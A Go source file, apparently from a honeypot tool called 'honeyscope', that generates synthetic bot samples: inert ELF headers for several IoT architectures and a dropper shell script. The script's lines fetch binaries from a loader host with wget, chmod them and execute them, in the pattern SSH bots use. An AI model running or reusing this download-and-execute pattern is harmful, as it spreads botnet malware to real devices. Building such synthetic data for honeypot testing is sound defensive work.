package synth

import (
	"encoding/binary"
	"fmt"
)

// sampleArch is an architecture the synthesized bots are built for.
type sampleArch struct {
	name    string // as bots name their binaries
	machine uint16 // ELF e_machine
	bits64  bool
	big     bool // big-endian
}

var sampleArches = []sampleArch{
	{"arm", 40, false, false}, {"arm7", 40, false, false}, {"mips", 8, false, true}, {"mpsl", 8, false, false},
	{"x86", 3, false, false}, {"ppc", 20, false, true}, {"m68k", 4, false, true}, {"sh4", 42, false, false},
	{"x86_64", 62, true, false}, {"aarch64", 183, true, false},
}

// sampleELF returns the bytes of a dropped "binary": a well-formed ELF
// file header of the architecture (an executable with no program headers,
// so nothing could load it) followed by text saying what it is and a
// deterministic filler. It is not a program.
func sampleELF(arch, build int) []byte {
	a := sampleArches[arch%len(sampleArches)]
	hdrLen := 52
	if a.bits64 {
		hdrLen = 64
	}
	b := make([]byte, hdrLen)
	copy(b, "\x7fELF")
	b[4] = 1 // ELFCLASS32
	if a.bits64 {
		b[4] = 2
	}
	var bo binary.ByteOrder = binary.LittleEndian
	b[5] = 1
	if a.big {
		bo, b[5] = binary.BigEndian, 2
	}
	b[6] = 1                // EI_VERSION
	bo.PutUint16(b[16:], 2) // ET_EXEC
	bo.PutUint16(b[18:], a.machine)
	bo.PutUint32(b[20:], 1)
	if a.bits64 {
		bo.PutUint16(b[52:], uint16(hdrLen)) // e_ehsize
	} else {
		bo.PutUint16(b[40:], uint16(hdrLen))
	}
	b = fmt.Appendf(b, "honeyscope synthetic sample, not a program: arch %s, build %d\n", a.name, build)
	x := mix(uint64(arch)<<8 | uint64(build) | 0xe1f<<20)
	for len(b) < 600+100*build {
		x = mix(x)
		b = binary.LittleEndian.AppendUint64(b, x)
	}
	return b
}

// sampleScript returns a dropper script as SSH bots write it: text that
// names the loader host, never run.
func sampleScript(host string, build int) []byte {
	s := "#!/bin/sh\n# honeyscope synthetic dropper script, build " + fmt.Sprint(build) + "\n"
	for _, a := range []string{"arm7", "mips", "x86_64"} {
		s += "cd /tmp; wget http://" + host + "/bins/" + a + " -O .b; chmod 777 .b; ./.b ssh." + a + "\n"
	}
	return []byte(s)
}
